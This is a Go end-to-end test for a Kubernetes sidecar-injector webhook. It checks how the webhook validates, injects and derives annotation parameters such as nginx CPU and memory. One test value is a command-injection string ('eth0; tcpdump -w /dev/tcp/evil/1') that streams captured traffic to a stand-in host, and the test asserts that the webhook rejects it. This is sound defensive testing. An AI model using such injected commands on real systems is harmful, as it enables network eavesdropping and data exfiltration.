//go:build e2e

package e2e

import (
	"path/filepath"
	"strings"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// testParameters runs the webhook with examples/parameters/config.yaml: a
// pod with a value out of its bounds is denied by the API server with the
// engine's message; pods with values in bounds, or none, get the sidecars
// tuned, and the API server stores them.
func (c *whCluster) testParameters(t *testing.T) {
	p := c.startWebhook(t, "parameters", "webhook", "--config", filepath.Join(root, "examples", "parameters", "config.yaml"),
		"--tls-cert-file", filepath.Join(c.certDir, "tls.crt"), "--tls-key-file", filepath.Join(c.certDir, "tls.key"))
	c.register(t, "parameters", p.port, admissionregistrationv1.Fail, map[string]string{"e2e-parameters": "on"})
	ns := c.namespace(t, "parameters", map[string]string{"e2e-parameters": "on"})
	c.waitInjected(t, ns, "sidecar-injector.io", "sidecar-nginx")

	_, err := c.create(ns, whPod("too-big", map[string]string{
		"sidecar-injector.io/inject":    "true",
		"sidecar-injector.io/nginx.cpu": "2",
	}), false)
	want := `Pod parameters/too-big: metadata.annotations["sidecar-injector.io/nginx.cpu"]: "2" is above the maximum; nginx.cpu takes a quantity from 50m to 1`
	switch {
	case err == nil:
		t.Fatal("a pod with nginx.cpu 2 (max 1) was admitted")
	case !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), want):
		t.Fatalf("denial: %v\nwant the message %s", err, want)
	}
	if _, err := c.cs.CoreV1().Pods(ns).Get(t.Context(), "too-big", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Errorf("the denied pod was stored: %v", err)
	}
	_, err = c.create(ns, whPod("no-such-interface", map[string]string{
		"sidecar-injector.io/inject":                   "packet-capture",
		"sidecar-injector.io/packet-capture.interface": "eth0; tcpdump -w /dev/tcp/evil/1",
	}), false)
	if err == nil || !strings.Contains(err.Error(), `packet-capture.interface takes one of "eth0", "eth1", "any"`) {
		t.Errorf("an interface outside the enum: %v", err)
	}

	// In bounds: the values are in the stored pod, and in its status.
	tuned := whPod("tuned", map[string]string{
		"sidecar-injector.io/inject":                   "nginx,packet-capture",
		"sidecar-injector.io/nginx.cpu":                "250m",
		"sidecar-injector.io/nginx.memory":             "128Mi",
		"sidecar-injector.io/packet-capture.interface": "any",
	})
	got, err := c.create(ns, tuned, false)
	if err != nil {
		t.Fatal(err)
	}
	nginx := whContainer(got, "sidecar-nginx")
	if nginx == nil {
		t.Fatalf("no sidecar-nginx: %v", whContainerNames(got))
	}
	wantResources := corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("250m"), corev1.ResourceMemory: resource.MustParse("128Mi")}
	for _, rl := range []corev1.ResourceList{nginx.Resources.Requests, nginx.Resources.Limits} {
		for name, q := range wantResources {
			if v, ok := rl[name]; !ok || v.Cmp(q) != 0 {
				t.Errorf("sidecar-nginx %s: %v, want %s", name, nginx.Resources, q.String())
			}
		}
	}
	monitor := whContainer(got, "sidecar-monitor")
	if monitor == nil || len(monitor.Env) != 1 || monitor.Env[0].Name != "CAPTURE_INTERFACE" || monitor.Env[0].Value != "any" {
		t.Errorf("sidecar-monitor: %+v", monitor)
	}
	status := got.Annotations["sidecar-injector.io/status"]
	if !strings.Contains(status, `"parameters":{"nginx.cpu":"250m","nginx.memory":"128Mi","packet-capture.interface":"any"}`) {
		t.Errorf("status: %s", status)
	}

	// No value: the CPU is derived from the app's request (2 CPUs: 500m).
	derived := whPod("derived", map[string]string{"sidecar-injector.io/inject": "true"})
	derived.Spec.Containers[0].Resources.Requests = corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("2")}
	if got, err = c.create(ns, derived, false); err != nil {
		t.Fatal(err)
	}
	if n := whContainer(got, "sidecar-nginx"); n == nil || n.Resources.Requests.Cpu().String() != "500m" || n.Resources.Limits.Memory().String() != "64Mi" {
		t.Errorf("derived: %+v", n)
	}
	c.warnings.take()
}
